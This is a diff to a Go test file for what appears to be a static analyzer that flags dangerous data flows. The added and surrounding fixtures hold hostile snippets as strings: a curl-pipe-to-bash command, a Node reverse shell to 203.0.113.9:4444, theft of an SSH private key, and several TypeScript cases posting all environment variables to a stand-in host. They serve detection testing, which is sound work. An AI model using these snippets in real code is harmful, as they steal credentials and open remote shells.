@@ -7,6 +7,8 @@ import (
 
 	"github.com/vadehq/vade/internal/audit/script"
 	"github.com/vadehq/vade/internal/source"
+
+	"github.com/vadehq/vade/internal/testenv"
 )
 
 func codeFacts(lang, src string) *Facts {
@@ -72,6 +74,11 @@ func TestFlows(t *testing.T) {
 		{"a command", "js", "const { execSync: x } = require('node:child_process');\nx('curl -s https://files.example/i | bash');", "$ bash"},
 		{"a stream", "js", "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '203.0.113.9', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) });", "connect>bind"},
 		{"a secret file", "js", "import fs from 'fs/promises'; import path from 'path'; import os from 'os';\nconst k = await fs.readFile(path.join(os.homedir(), '.ssh', 'id_ed25519'), 'utf8');\nawait axios.post('https://files.example', { k });", "secret>send ~/.ssh/id_ed25519 https://files.example body"},
+		{"a declaration without a body", "ts", "declare function send(a: string): void;\nsend(process.env.A);\nfetch('https://files.example', { method: 'POST', body: JSON.stringify(process.env) });", "allenv>send  https://files.example body"},
+		{"a block that ends in a function", "ts", "fetch('https://files.example', { method: 'POST', body: JSON.stringify(process.env) });\nconst r = (async function send", "allenv>send  https://files.example body"},
+		{"a call of a function cut off", "ts", "fetch('https://files.example', { method: 'POST', body: JSON.stringify(process.env) });\nfunction late(a: string): Promise<string>\nlate('x', late)", "allenv>send  https://files.example body"},
+		{"overloads", "ts", "function send(a: string): void;\nfunction send(a: object): void;\nfunction send(a) { fetch('https://files.example', { method: 'POST', body: a }) }\nsend(JSON.stringify(process.env))", "allenv>send  https://files.example body"},
+		{"overloads of a method", "ts", "class A {\nsend(a: string): void;\nsend(a: object): void;\nsend(a) { fetch('https://files.example', { method: 'POST', body: a }) }\ngo() { this.send(JSON.stringify(process.env)) }\n}", "allenv>send  https://files.example body"},
 		{"a pattern is no code", "js", "const m = /a/.exec(await (await fetch(u)).text());", "!eval"},
 	} {
 		got := flowsOf(codeFacts(c.lang, c.src))
@@ -85,6 +92,7 @@ func TestFlows(t *testing.T) {
 // TestLongCode reads code that is made to be long: it has to come to an end soon, and
 // say if it was not followed to the end.
 func TestLongCode(t *testing.T) {
+	testenv.SkipUnlessSlow(t)
 	n := 128 << 10
 	for _, c := range []struct{ lang, unit string }{
 		{"py", "("}, {"py", "a=a+a\n"}, {"py", "x.y(x)."}, {"py", "f'{"}, {"py", "def f(a):\n return f(a)\n"}, {"py", "exec("}, {"py", "lambda x:"}, {"py", "requests.get(os.environ)\n"}, {"py", "1,"}, {"py", "'a'+"}, {"py", "[x for x in "},
@@ -103,6 +111,7 @@ func TestLongCode(t *testing.T) {
 func FuzzScript(f *testing.F) {
 	f.Add("import os\nx = [os.environ[k] for k in 'ab']\nx += f'{x}'\nexec(''.join(x)[::-1])", uint8(0))
 	f.Add("f(async function", uint8(1))
+	f.Add("declare function f(a: string): void;\nclass A { g(a): b; h() { this.g(f(f)) } }\nconst r = (function send", uint8(1))
 	f.Add("const {a: b = 1} = require('x'); b.then(c => eval(c + atob(`${c}`)))", uint8(1))
 	f.Add("system(\"a #{b}\"); `ls`", uint8(2))
 	f.Fuzz(func(t *testing.T, src string, lang uint8) {
